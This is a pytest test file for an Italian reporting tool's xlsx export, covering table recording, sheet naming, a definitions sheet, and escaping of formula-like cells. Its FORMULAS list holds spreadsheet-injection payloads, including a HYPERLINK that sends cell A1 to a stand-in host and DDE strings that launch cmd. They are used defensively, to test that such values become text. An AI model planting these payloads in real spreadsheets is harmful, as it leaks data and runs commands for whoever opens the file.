"""spreadsheet: the tables a report shows, recorded during a run and written as xlsx, never as formulas."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook

from pianozona.present import display as show
from pianozona.present import spreadsheet
from pianozona.present.spreadsheet import TABLES_ENV_VAR, Number, read_tables, safe_text, sheet_names, write_workbook

#: Values an office's spreadsheet may hold that Excel or LibreOffice would run as formulas.
FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0')


@pytest.fixture
def record(tmp_path, monkeypatch):
    """A run's record file, as the report runner sets it for a job's kernel."""
    path = tmp_path / "tabelle.jsonl"
    monkeypatch.setenv(TABLES_ENV_VAR, str(path))
    monkeypatch.setattr(show, "display", lambda *a, **k: None)
    return path


def test_without_a_run_nothing_is_recorded(tmp_path, monkeypatch):
    monkeypatch.delenv(TABLES_ENV_VAR, raising=False)
    monkeypatch.setattr(show, "display", lambda *a, **k: None)
    monkeypatch.chdir(tmp_path)
    show.table(pd.DataFrame({"comune": ["Pavia"], "utenti": [12]}), caption="Utenti")
    assert spreadsheet.record_table("x", ["a"], [["1"]]) is False
    assert list(tmp_path.iterdir()) == []


def test_every_shown_table_is_recorded_as_shown(record):
    frame = pd.DataFrame({"comune": ["A", "B", "C"], "anno": [2023, 2023, 2023], "utenti": [3, 40, 1234],
                          "utenti_soppresso": [True, False, False], "copertura": [0.5, 12.345, 7.0]})
    show.table(frame, caption="Utenti per comune", labels={"comune": "Comune", "utenti": "Utenti"},
               decimals={"copertura": 1})
    show.table(pd.DataFrame({"servizio": ["SAD"], "spesa": [1234.567]}), caption="Spesa", decimals={"spesa": 2})
    first, second = read_tables(record)
    assert first["caption"] == "Utenti per comune" and first["columns"] == ["Comune", "anno", "Utenti", "copertura"]
    assert first["rows"][0][:3] == ["A", {"n": 2023.0, "d": 0, "t": "2023", "y": True}, "n.d."]
    assert first["rows"][2][2] == {"n": 1234.0, "d": 0, "t": "1.234", "y": False}
    assert first["rows"][1][3] == {"n": 12.3, "d": 1, "t": "12,3", "y": False}  # rounded as shown
    assert "riservatezza" in first["legend"] and second["legend"] == ""
    assert second["rows"] == [["SAD", {"n": 1234.57, "d": 2, "t": "1.234,57", "y": False}]]


def test_workbook_one_sheet_per_table_with_numbers_markers_and_headers(record, tmp_path):
    frame = pd.DataFrame({"comune": ["A", "B"], "utenti": [3, 40], "utenti_soppresso": [True, False],
                          "tasso": [1.25, 2.0]})
    show.table(frame, caption="Utenti dei servizi per comune (righe per servizio, non persone)",
               labels={"comune": "Comune", "utenti": "Utenti", "tasso": "Tasso per 1.000"}, decimals={"tasso": 1})
    show.table(frame.drop(columns="utenti_soppresso"), caption="Utenti dei servizi per comune (righe per servizio, "
               "non persone)")
    target = write_workbook(read_tables(record), tmp_path / "rapporto.xlsx", title="Rapporto di prova")
    book = load_workbook(target)
    first, second, notes, defined = book.worksheets
    assert len(first.title) <= 31 and first.title != second.title and second.title.endswith("(2)")
    assert notes.title == "Note"
    assert [c.value for c in first[1]] == ["Comune", "Utenti", "Tasso per 1.000"]
    assert [c.value for c in first[2]] == ["A", "n.d.", 1.3] and first["C2"].number_format == "#,##0.0"
    assert [c.value for c in first[3]] == ["B", 40, 2.0] and first["B3"].data_type == "n"
    assert first.freeze_panes == "A2"
    note_text = [c.value for row in notes.iter_rows() for c in row if c.value]
    assert "Rapporto di prova" in note_text and first.title in note_text
    assert any("riservatezza" in str(v) for v in note_text)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_text(record, tmp_path, value):
    frame = pd.DataFrame({"servizio": [value], "utenti": [12]})
    show.table(frame, caption=value, labels={"servizio": value})
    target = write_workbook(read_tables(record), tmp_path / "r.xlsx", title=value)
    book = load_workbook(target)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not str(cell.value or "").startswith(spreadsheet.FORMULA_STARTS)
    sheet, expected = book.worksheets[0], "'" + value.replace("\r", "\n")  # XML may read a CR back as LF
    read = [str(sheet[c].value).replace("\r", "\n") for c in ("A1", "A2")]  # (lxml's parser keeps the CR)
    assert read == [expected, expected] and sheet["B2"].value == 12


def test_safe_text_keeps_ordinary_text_and_drops_what_xml_cannot_hold():
    assert safe_text("Cava Manara") == "Cava Manara" and safe_text("< 5") == "< 5"
    assert safe_text("n.d.") == "n.d." and safe_text("a\x00b\x1fc") == "abc"
    assert safe_text("=1") == "'=1" and safe_text(" =1") == " =1"


def test_sheet_names_are_valid_short_and_unique():
    captions = ["Spesa per area nel 2023: totale, per residente e per utente"] * 3 + ["a/b\\c?d*e[f]g:h", "", "Note"]
    names = sheet_names(captions)
    assert len(set(n.casefold() for n in names)) == len(names)
    assert all(0 < len(n) <= 31 for n in names)
    assert names[0] == "Spesa per area nel 2023 totale…"  # the colon dropped, cut between words (trial F20)
    assert names[1].endswith(" (2)") and names[2].endswith(" (3)")
    assert not any(ch in names[3] for ch in "[]:*?/\\") and names[4] == "Tabella 5" and names[5] != "Note"


def test_number_shows_its_text():
    assert str(Number(1234.5, 1, "1.234,5")) == "1.234,5"


def test_the_sheet_definizioni_defines_the_indicators_the_report_showed(record, tmp_path):
    frame = pd.DataFrame({"comune": ["A"], "anno": [2023], "utenti": [40], "copertura": [12.34]})
    show.table(frame, caption="Copertura", labels={"comune": "Comune", "anno": "Anno", "utenti": "Utenti dei servizi",
                                                    "copertura": "Copertura per 1.000"})
    show.table(pd.DataFrame({"fonte": ["FNPS"], "2023": [1000.0]}), caption="Entrate", indicators=["entrate"])
    tables = read_tables(record)
    assert tables[0]["keys"] == ["comune", "anno", "utenti", "copertura"] and tables[1]["indicators"] == ["entrate"]
    book = load_workbook(write_workbook(tables, tmp_path / "r.xlsx", areas=[("anziani", "Anziani", "65 e oltre")]))
    assert book.sheetnames[-1] == spreadsheet.DEFINITIONS_SHEET
    values = [[c.value for c in row] for row in book[spreadsheet.DEFINITIONS_SHEET].iter_rows()]
    assert values[0][:3] == ["Indicatore", "Gruppo", "Definizione"]
    names = [row[0] for row in values[1:4]]
    assert names == ["Utenti dei servizi", "Copertura per 1.000", "Entrate per fonte (euro)"]
    first = next(i for i, r in enumerate(values) if r[0] == "Anziani")
    assert ["Anziani", "Anziani", "65 e oltre"] == values[first][:3]
    assert any(row[0] == "n.d." for row in values) and any("Soppressione primaria" in str(row[0]) for row in values)
